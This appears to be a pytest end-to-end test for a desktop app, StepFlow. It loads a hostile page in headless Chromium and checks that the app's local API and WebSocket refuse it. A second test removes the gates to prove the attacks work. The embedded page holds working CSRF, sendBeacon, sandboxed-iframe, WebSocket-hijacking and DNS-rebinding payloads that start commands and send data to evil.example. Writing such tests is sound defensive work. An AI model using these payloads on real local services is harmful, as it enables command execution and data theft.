"""A real browser visits a hostile page while StepFlow runs: no command starts, no socket opens, nothing is read.

The same page is then opened beside a server whose gates are taken out (by this test; there is no such setting), where
its attacks succeed: an attack that could not work would prove nothing.
"""

from __future__ import annotations

import http.client
import http.server
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.harness import Server, wait_for

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = [
    pytest.mark.timeout(180),
    pytest.mark.skipif(BROWSER is None, reason="Chromium is not installed (chromium, chromium-browser, google-chrome)"),
]

WITHOUT_GATES = """
import sys
from stepflow_desktop.api import guard, middleware
guard.Guard.check = lambda self, asked: None
middleware.check_form = lambda *given, **named: None
from stepflow_desktop.__main__ import main
sys.exit(main(sys.argv[1:]))
"""

# What each attack leaves behind where it succeeds: an execution of its name, or words of StepFlow in foreign hands.
STARTS = {"form", "beacon", "no-cors", "sandboxed", "rebound"}
HEARS = {"websocket", "sandboxed websocket", "rebound"}
# The browser may know better than to ask 0.0.0.0 at all.
STARTS_PERHAPS = {"wildcard"}

PAGE = """<!doctype html><meta charset="utf-8"><title>Free kittens</title>
<body><iframe name="hidden" hidden></iframe><script>
const REST = ":REST/api/executions";
const order = name => JSON.stringify({name, command: "true"});
const tell = (name, text) => fetch("EVIL/told/" + name, {method: "POST", mode: "no-cors", body: text || "-"});
const start = (url, name) => fetch(url, {method: "POST", mode: "no-cors", body: order(name)}).catch(() => {});
const listen = name => new Promise(resolve => {
  const socket = new WebSocket("ws://localhost:HUB");
  socket.onmessage = message => tell(name, message.data).then(resolve);
  socket.onclose = socket.onerror = resolve;
});
if (origin === "null") {
  Promise.all([start("http://localhost" + REST, "sandboxed"), listen("sandboxed websocket")])
    .then(() => parent.postMessage("done", "*"));
} else {
  const form = () => new Promise(resolve => {
    // A text/plain form sends name=value; with the sign in the right place that is JSON.
    const form = document.createElement("form"), field = document.createElement("input");
    Object.assign(form, {method: "post", enctype: "text/plain", target: "hidden", action: "http://localhost" + REST});
    Object.assign(field, {name: '{"name":"form","command":"true","metadata":{"a":"', value: '"}}'});
    form.append(field);
    document.body.append(form);
    document.querySelector("iframe").onload = resolve;
    form.submit();
  });
  const sandboxed = () => new Promise(resolve => {
    const frame = document.createElement("iframe");
    Object.assign(frame, {sandbox: "allow-scripts", src: "/"});
    addEventListener("message", resolve);
    document.body.append(frame);
  });
  // The name of this page now leads to StepFlow: to the browser that is the page's own server.
  const rebound = async () => {
    const headers = {"Content-Type": "application/json"};
    const answer = await fetch("/api/executions");
    if (answer.ok) await tell("rebound", await answer.text());
    await fetch("/api/executions", {method: "POST", headers, body: order("rebound")});
  };
  const beacon = () => navigator.sendBeacon("http://localhost" + REST, new Blob([order("beacon")]));
  beacon();
  Promise.allSettled([
    form(), start("http://localhost" + REST, "no-cors"), start("http://0.0.0.0" + REST, "wildcard"),
    listen("websocket"), sandboxed(), rebound(),
  ]).then(() => tell("done"));
}
</script>"""


class HostileSite:
    """Serves the page and hears what it found out; what it is asked of ``/api`` it hands on, as rebound DNS does."""

    def __init__(self, rest_port: int, websocket_port: int) -> None:
        site = self
        self.heard: dict[str, str] = {}

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/api/"):
                    self._hand_on(b"")
                elif self.path == "/":
                    self._answer(200, "text/html", site.page)
                else:
                    self._answer(404, "text/plain", b"")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                if self.path.startswith("/api/"):
                    self._hand_on(body)
                else:
                    name = self.path.removeprefix("/told/").replace("%20", " ")
                    site.heard[name] = body.decode()
                    self._answer(200, "text/plain", b"")

            def _hand_on(self, body: bytes) -> None:
                connection = http.client.HTTPConnection("127.0.0.1", rest_port, timeout=20)
                connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
                for name, value in self.headers.items():
                    if name.lower() != "connection":
                        connection.putheader(name, value)
                connection.putheader("Connection", "close")
                connection.endheaders(body)
                answer = connection.getresponse()
                self._answer(answer.status, answer.headers["Content-Type"], answer.read())
                connection.close()

            def _answer(self, status: int, media: str, body: bytes) -> None:
                self.send_response(status)
                self.send_header("Content-Type", media)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://evil.example:{self._server.server_port}"
        page = PAGE.replace(":REST", f":{rest_port}").replace(":HUB", f":{websocket_port}").replace("EVIL", self.url)
        self.page = page.encode()
        self._thread = threading.Thread(target=self._server.serve_forever, name="hostile site")
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def visited(server: Server, profile: Path) -> tuple[set[str], dict[str, str]]:
    """Open the page in a browser until all its attacks are over: names of executions, and what the site heard."""
    site = HostileSite(int(server.address.rpartition(":")[2]), server.websocket_port())
    assert BROWSER is not None
    browser = subprocess.Popen(
        [
            *(BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
            *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
            *("--disable-dev-shm-usage", f"--user-data-dir={profile}", "--remote-debugging-port=0"),
            *("--host-resolver-rules=MAP evil.example 127.0.0.1", site.url + "/"),
        ],
        env={**os.environ, "HOME": str(profile)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        wait_for(lambda: "done" in site.heard, "the end of all attacks")
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()
        site.close()
    return {item["name"] for item in server.get("/executions")["executions"]}, site.heard


@pytest.fixture
def open_server(tmp_path: Path) -> Iterator[Server]:
    server = Server(tmp_path / "storage", program=("-c", WITHOUT_GATES))
    server.start()
    yield server
    assert server.stop() == 0, server.own_log()


def test_a_hostile_page_achieves_nothing(server: Server, tmp_path: Path) -> None:
    started, heard = visited(server, tmp_path / "profile")
    assert started == set()
    assert set(heard) == {"done"}


def test_without_the_gates_the_same_page_runs_commands_and_listens(open_server: Server, tmp_path: Path) -> None:
    started, heard = visited(open_server, tmp_path / "profile")
    assert started - STARTS_PERHAPS == STARTS
    assert set(heard) == HEARS | {"done"}
    assert all('"type":' in heard[name] for name in HEARS - {"rebound"})
    assert "executions" in heard["rebound"]
